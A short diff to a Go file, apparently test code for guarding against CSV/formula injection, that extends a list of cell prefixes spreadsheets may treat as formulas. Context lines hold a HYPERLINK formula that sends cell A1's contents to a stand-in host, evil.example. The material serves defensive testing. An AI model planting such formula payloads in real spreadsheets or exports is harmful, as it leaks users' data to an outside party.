@@ -9,8 +9,9 @@ import (
 )
 
 // runs are how a cell begins that some spreadsheet takes for a formula, or
-// drops before it looks again (OWASP, CSV Injection).
-var runs = []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n="}
+// drops before it looks again (OWASP, CSV Injection). In much of the world it is a
+// semicolon that separates cells.
+var runs = []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "a;=", "a; +", "a,@", "a|-", "a\t="}
 
 const formula = `HYPERLINK("https://evil.example/?"&A1,"ok")`
 
